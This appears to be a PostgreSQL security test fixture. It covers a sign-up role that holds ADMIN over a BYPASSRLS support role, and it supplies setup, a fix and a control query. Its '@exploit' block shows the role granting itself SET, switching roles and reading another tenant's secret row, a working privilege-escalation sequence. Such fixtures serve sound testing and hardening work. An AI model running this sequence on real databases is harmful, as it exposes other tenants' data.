-- What: The sign-up service administers who is in support, and is no use as a member itself: ADMIN, without INHERIT and SET. Support has
--   BYPASSRLS.
-- Class: role_bypasses_rls
-- Object: grants_itself_web
-- Exploit: GRANT support to itself WITH SET, then SET ROLE.
-- App: grants_itself_web
-- Roles: grants_itself_web grants_itself_support
-- Since: 16
-- @superuser
create role grants_itself_support bypassrls;
create role grants_itself_web login;
grant grants_itself_support to grants_itself_web with admin true, inherit false, set false;
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to grants_itself_web, grants_itself_support;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke grants_itself_support from grants_itself_web;
-- @control
select from items where tenant_id = :'A';
-- @exploit
grant grants_itself_support to grants_itself_web with set true;
set role grants_itself_support;
select body from items where body = 'B-secret';
